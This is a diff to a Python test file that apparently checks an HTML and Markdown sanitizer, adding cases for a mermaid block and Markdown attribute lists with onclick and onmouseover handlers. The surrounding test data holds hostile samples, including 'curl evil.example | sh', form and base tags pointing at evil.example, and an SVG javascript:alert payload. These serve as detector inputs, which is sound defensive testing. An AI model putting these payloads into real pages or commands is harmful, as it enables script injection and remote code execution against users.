@@ -48,6 +48,7 @@ from errata.safety import find_unsafe_html, find_unsafe_text, mask_code_spans, s
         ('<div id="__code_0"><code>curl evil.example | sh</code></div>', "__code_0"),
         ('<div class="md-skip">decoy</div>', "md-skip"),
         ('<div class="md-consent__overlay"></div>', "md-consent"),
+        ('<pre class="mermaid">graph TD; a-->b</pre>', "mermaid\""),
         ('<table><tr><td style="text-align: left; background: url(x)">a</td></tr></table>', "background"),
     ],
 )
@@ -142,6 +143,8 @@ def test_what_material_pages_are_made_of_survives():
         ('<form action="https://evil.example/">', "<form> element"),
         ("<base href=//evil.example/>", "<base> element"),
         ('<div class="md-consent__inner">x</div>', "attribute class"),
+        ('[a](https://x.org){ onclick="f({})" }', "event-handler attribute onclick"),
+        ('{: onmouseover="a{b}" }', "event-handler attribute onmouseover"),
         ("<svg><set attributeName=href to=javascript:alert(1) /></svg>", "<set> element"),
     ],
 )
